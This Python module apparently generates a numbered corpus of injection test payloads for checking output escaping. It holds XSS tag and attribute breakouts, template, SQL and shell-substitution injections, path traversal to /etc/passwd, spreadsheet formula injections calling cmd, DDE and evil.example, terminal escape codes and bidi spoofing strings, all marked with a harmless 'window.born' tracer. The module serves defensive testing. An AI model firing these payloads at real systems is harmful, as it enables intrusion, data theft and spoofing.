"""Texts that try to be more than text: made here, for every place where somebody else's words are shown.

Each has a number of its own (``x17x``) by which it is found again, and where it is a program it sets ``window.born``.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

_TAGS: Final = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<body onpageshow={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=javascript:{js}>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<a href=javascript:{js}>here</a>",
    "<form action=javascript:{js}><button>go</button></form>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<math><mi xlink:href=javascript:{js}>",
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<base href=https://evil.example/{n}/>",
    "<template><img src=x onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<x-{n} style='position:fixed;inset:0;background:url(https://evil.example/{n})'>",
    "<dialog open><form method=dialog><button autofocus onfocus={js}>",
    "<b hx-get=/ hx-trigger=load hx-on::load={js}>",
    "<b data-live=detections data-renew=https://evil.example/{n}>",
)
_WAYS_OUT: Final = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "</title>{tag}",
    "</textarea>{tag}",
    "</script>{tag}",
    "</style>{tag}",
    "-->{tag}",
    "</option></select>{tag}",
    "]]>{tag}",
    "</td></tr></table>{tag}",
    '\\"}}]);{js};//{tag}',
)
_ATTRIBUTES: Final = (
    '" onmouseover="{js}" x="',
    "' onfocus='{js}' autofocus='",
    '" style="background:url(https://evil.example/{n})" x="',
    '" href="javascript:{js}" x="',
    '" hx-get="https://evil.example/{n}" hx-trigger="load" x="',
    " onclick={js} ",
    "` onload=`{js}`",
    "javascript:{js}//",
    "data:text/html,<script>{js}</script>",
    "//evil.example/{n}",
    "https://evil.example/{n}?<img src=x onerror={js}>",
    "vbscript:msgbox({n})",
)
_TEMPLATES: Final = (
    "{{{{ {n} * 7 }}}}",
    "{{% for a in range(9) %}}{js}{{% endfor %}}",
    "{{# {js} #}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{0.__class__}}{{n!r}}%({n})s%n%s",
    "$(touch born-{n})`touch born-{n}`",
    "';{js};'",
    '";{js};"',
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "&lt;script&gt;{js}&lt;/script&gt;&#60;b&#62;",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "' OR 1={n} --",
    "'); DROP TABLE detections; -- {n}",
    "%0d%0aSet-Cookie: born={n}",
    "../../../../etc/passwd?{n}",
    "__proto__[born]={n}",
)
_FORMULAS: Final = (
    "cmd|' /C calc'!A{n}",
    'HYPERLINK("https://evil.example/{n}","x")',
    'IMPORTXML("https://evil.example/{n}","//a")',
    'WEBSERVICE("https://evil.example/{n}")',
    'DDE("cmd";"/C calc";{n})',
    "1+{n}",
    "SUM(A1:A{n})*cmd",
)
_STARTS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    " =",
    '"=',
    ",=",
    ";=",
)
_TERMINAL: Final = (
    "\x1b[2J\x1b[H{n}",
    "\x1b]0;born {n}\x07",
    "\x1b]8;;https://evil.example/{n}\x07here\x1b]8;;\x07",
    "\x1b]52;c;Ym9ybg==\x07{n}",
    "\x1b[6n{n}\x1b[5i",
    "\x1bP+q{n}\x1b\\",
    "\x9b31m{n}\x9bm",
    "\x1b[?1049h{n}",
    "a\x08\x08\x08born {n}",
    "{n}\x7f\x7f\x7f\x00\x07",
    "\x1b(0{n}\x1b(B",
    "\x0e{n}\x0f",
)
_DIRECTIONS: Final = (
    "\u202egnp.{n}exe",
    "\u2066\u2067{n}\u2069",
    "\u202d{n}\u202c",
    "\u200f{n}\u200e",
    "\u061c{n}",
    "ad\u200bmin{n}",
    "a\u0430dmin{n}\u2060",
    "{n}\ufeff\u00ad",
    "\U000e0041\U000e0042{n}",
    "\u2028{n}\u2029",
)
_LINES: Final = (
    "{n}\r\nSet-Cookie: born={n}",
    '{n}\n{{"level":"info","message":"born"}}',
    "{n}\r\n\r\n<script>{js}</script>",
    "{n}\rborn",
    "{n}\x85born\x0bborn\x0cborn",
    "{n}\n127.0.0.1 - - born",
)
_MIXED: Final = ("{a}{b}", "{b}{a}")


def _made() -> Iterator[str]:
    yield from (way.replace("{tag}", tag) for way, tag in product(_WAYS_OUT, _TAGS))
    yield from (*_ATTRIBUTES, *_TEMPLATES, *_TERMINAL, *_DIRECTIONS, *_LINES)
    yield from (start + formula for start, formula in product(_STARTS, _FORMULAS))
    for mixed, a, b in product(_MIXED, (*_TERMINAL[:4], *_DIRECTIONS[:4], *_LINES[:2]), _TAGS[:4]):
        yield mixed.replace("{a}", a).replace("{b}", b)


def _filled(number: int, text: str) -> str:
    filled = text.replace("{js}", f"window.born={number}").replace("{n}", str(number))
    return filled.replace("{{", "{").replace("}}", "}") + f"x{number}x"


PAYLOADS: Final = tuple(_filled(number, text) for number, text in enumerate(_made()))
"""All of them."""


def mark_of(number: int) -> str:
    """By what a payload is found again."""
    return f"x{number}x"
